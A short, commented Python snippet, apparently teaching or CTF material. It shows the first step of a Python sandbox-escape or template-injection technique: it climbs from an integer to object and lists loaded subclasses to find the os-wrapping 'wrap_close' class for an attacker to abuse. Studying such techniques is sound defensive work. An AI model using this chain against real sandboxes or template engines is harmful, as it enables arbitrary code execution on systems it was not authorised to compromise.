# Integer literal -> int -> object; list every class the interpreter has loaded
# so the attacker can search for one that wraps os or sys.
base = (1).__class__.__base__
for i, cls in enumerate(base.__subclasses__()):
    if "wrap_close" in cls.__name__:
        print(i, cls)
